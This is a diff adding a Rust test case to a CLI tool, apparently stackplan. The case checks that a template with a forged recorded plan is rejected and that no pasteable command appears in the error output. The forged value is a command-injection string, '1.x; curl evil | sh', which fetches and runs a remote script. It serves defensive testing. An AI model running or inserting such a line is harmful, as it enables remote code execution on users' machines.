@@ -151,6 +151,19 @@ fn a_template_given_as_a_plan_says_how_to_get_its_plan() {
     let decoded = stackplan(&args, "");
     assert!(decoded.status.success(), "{}", text(&decoded.stderr));
     assert_eq!(shared::Plan::from_json(&text(&decoded.stdout)), Ok(plan));
+    // A recorded plan that is not one (a template from anyone): no command to paste.
+    let forged = yaml.replace(
+        &shared::link::encode(&examples::lambda()),
+        "\"1.x; curl evil | sh\"",
+    );
+    let out = stackplan(&["estimate", "--plan", "-"], &forged);
+    assert_eq!(out.status.code(), Some(2));
+    let said = text(&out.stderr);
+    assert!(
+        said.contains("the plan it records (Metadata.Stackplan.Plan) could not be read"),
+        "{said}"
+    );
+    assert!(!said.contains("stackplan link"), "{said}");
     // A template Stackplan did not write.
     let out = stackplan(
         &["validate", "--plan", "-"],
